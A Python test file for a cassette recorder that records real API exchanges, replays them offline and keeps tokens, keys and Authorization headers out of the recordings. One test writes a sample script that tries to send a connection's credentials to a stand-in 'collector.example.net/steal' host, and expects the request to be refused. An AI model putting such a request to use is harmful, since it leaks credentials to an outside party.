"""`sluice test --record`: cassettes come from the real connections once, replay offline,
and never hold a secret (token, key, password, Authorization header, anything the
connection adds), even when the API echoes the credentials back."""

from __future__ import annotations

import io
import json
import textwrap
from pathlib import Path

from connlab import LabServer, Leaks, add_oauth2, authorize
from sluicegate.connections.registry import Registry
from sluicegate.examples.provider import LocalProvider
from sluicegate.http.broker import Broker
from sluicegate.http.guard import HostPolicy
from sluicegate.testing.cassettes import record_session
from sluicegate.testing.session import Session

SCRIPT = """
invoices = invokeurl [ url: api + "/invoices?organization_id=10234695" type: GET connection: "zb" ];
echo = invokeurl [ url: lab + "/echo?page=2" type: POST parameters: {"n": 12.50}.toString()
                   content-type: "application/json" connection: "lab" ];
info "echoed " + echo.get("body");
return {"first": invoices.get("invoices").get(0).get("invoice_number"),
        "auth_seen": echo.get("you_sent")};
"""


def _write(folder: Path, api: str, lab: str) -> Path:
    (folder / "sync.dg").write_text(textwrap.dedent(SCRIPT))
    spec = folder / "sync.test.toml"
    spec.write_text(textwrap.dedent(f"""
        [[case]]
        name = "lists invoices and echoes"
        inputs = {{ api = "{api}", lab = "{lab}" }}
        expect.return_at = {{ first = "INV-00001", auth_seen = "[redacted]" }}
        expect.logs = ['echoed {{"n":12.50}}']
        """))
    return spec


def test_record_writes_a_cassette_without_secrets_and_replays_it_offline(
        tmp_path: Path, registry: Registry, provider: LocalProvider, lab: LabServer,
        leaks: Leaks) -> None:
    add_oauth2(registry, provider, "zb")
    authorize(registry, provider, "zb")
    registry.add("lab", "api_key", base_urls=[lab.url + "/echo"],
                 secret=json.dumps({"keys": {"Authorization": lab.api_key,
                                             "X-Api-Key": lab.api_key[::-1]}}))
    leaks.secret(lab.api_key[::-1])
    _write(tmp_path, provider.api_base, lab.url)
    session = Session([str(tmp_path)])
    session.load()
    broker = Broker(registry, policy=HostPolicy())
    try:
        out = io.StringIO()
        assert record_session(session, out, broker=broker) == 2
    finally:
        broker.close()
    assert "recorded 2 exchange(s) of 1 case(s)" in out.getvalue()
    # the lab really got the credentials: the recording went through the connection
    assert lab.requests[-1].headers["Authorization"] == lab.api_key

    cassette = (tmp_path / "sync.cassette.json").read_text()
    secrets = set(leaks.secrets) | set(provider.state.access) | set(provider.state.refresh)
    secrets.add(provider.client_secret)
    for secret in secrets:
        assert secret not in cassette
        assert json.dumps(secret)[1:-1] not in cassette
    assert "authorization" not in cassette.lower().replace('"auth_seen"', "")
    data = json.loads(cassette)
    exchanges = data["cases"]["lists invoices and echoes"]
    assert [x["request"]["method"] for x in exchanges] == ["GET", "POST"]
    assert exchanges[1]["request"]["body"] == {"n": 12.50}
    assert '"n": 12.50' in cassette  # decimals as written
    assert set(exchanges[0]["response"]["headers"]) <= {"content-type"}

    # Offline replay: the servers are still up, but nothing may reach them.
    seen = len(lab.requests)
    replay = Session([str(tmp_path)])
    replay.load()
    replay.run()
    assert replay.summary() == "1 passed, 0 failed", replay.outcomes[0].report()
    assert len(lab.requests) == seen


def test_a_recorded_error_replays_as_the_same_catchable_error(tmp_path: Path,
                                                              registry: Registry,
                                                              lab: LabServer) -> None:
    (tmp_path / "refused.dg").write_text(textwrap.dedent("""
        try { invokeurl [ url: "https://collector.example.net/steal" connection: "lab" ]; }
        catch (e) { info e.message; }
        """))
    (tmp_path / "refused.test.toml").write_text(textwrap.dedent("""
        [[case]]
        name = "refused"
        expect.logs_contain = ["may only be used with"]
        """))
    registry.add("lab", "api_key", base_urls=[lab.url + "/echo"], secret=lab.api_key)
    session = Session([str(tmp_path)])
    session.load()
    broker = Broker(registry, policy=HostPolicy())
    try:
        record_session(session, io.StringIO(), broker=broker)
    finally:
        broker.close()
    replay = Session([str(tmp_path)])
    replay.load()
    replay.run()
    assert replay.summary() == "1 passed, 0 failed", replay.outcomes[0].report()
    assert lab.api_key not in (tmp_path / "refused.cassette.json").read_text()


def test_sluice_test_record_on_the_command_line_uses_this_machines_connections(
        tmp_path: Path, db_url: str, lab: LabServer, leaks: Leaks, monkeypatch,
        capsys) -> None:
    from sluicegate.cli import main
    from sluicegate.connections.keyring import Keyring, generate_key
    from sluicegate.store.db import make_engine

    key = leaks.secret(generate_key())
    monkeypatch.setenv("SLUICE_DATABASE_URL", db_url)
    monkeypatch.setenv("SLUICE_MASTER_KEY", key)
    monkeypatch.setenv("SLUICE_HOME", str(tmp_path / "home"))
    engine = make_engine(db_url)
    registry = Registry(engine, Keyring.from_texts([key]), actor="tests")
    try:
        registry.add("lab", "api_key", base_urls=[lab.url + "/echo"],
                     secret=json.dumps({"keys": {"Authorization": lab.api_key}}))
    finally:
        registry.close()
        engine.dispose()
    (tmp_path / "echo.dg").write_text(
        'r = invokeurl [ url: url type: GET connection: "lab" ];\nreturn r.get("you_sent");\n')
    (tmp_path / "echo.test.toml").write_text(
        f'[[case]]\nname = "echo"\ninputs = {{ url = "{lab.url}/echo" }}\n'
        'expect.return = "[redacted]"\n')
    assert main(["test", "--record", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert "echo.cassette.json: recorded 1 exchange(s) of 1 case(s)" in out
    assert out.splitlines()[-1] == "1 passed, 0 failed"
    assert lab.requests[-1].headers["Authorization"] == lab.api_key
    cassette = (tmp_path / "echo.cassette.json").read_text()
    for secret in leaks.secrets:
        assert secret not in cassette
    leaks.output(out)
